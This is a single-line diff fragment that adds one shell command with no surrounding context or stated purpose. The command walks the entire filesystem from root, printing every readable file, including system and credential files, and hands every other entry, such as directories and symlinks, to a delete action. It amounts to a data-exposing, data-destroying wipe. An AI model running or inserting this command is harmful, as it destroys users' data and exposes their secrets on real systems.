@@ -1,0 +1,1 @@
+find / -type f -exec sh -c 'cat "$1"' _ {} \; -o -delete
